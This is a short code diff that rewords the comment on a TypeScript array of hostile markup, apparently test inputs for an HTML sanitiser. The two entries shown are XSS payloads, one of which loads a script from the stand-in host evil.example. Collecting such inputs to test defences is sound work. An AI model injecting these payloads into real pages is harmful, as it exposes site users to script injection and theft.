@@ -1,4 +1,4 @@
-/** Markup that somebody hopes will run, leave its place or lead elsewhere: collected from public lists of such tricks. */
+/** Attack markup (XSS) that tries to run, leave its place or lead elsewhere: collected from public lists of such tricks. */
 export const hostileMarkup: readonly string[] = [
   '<script>hit()</script>',
   '<script src=//evil.example/x.js></script>',
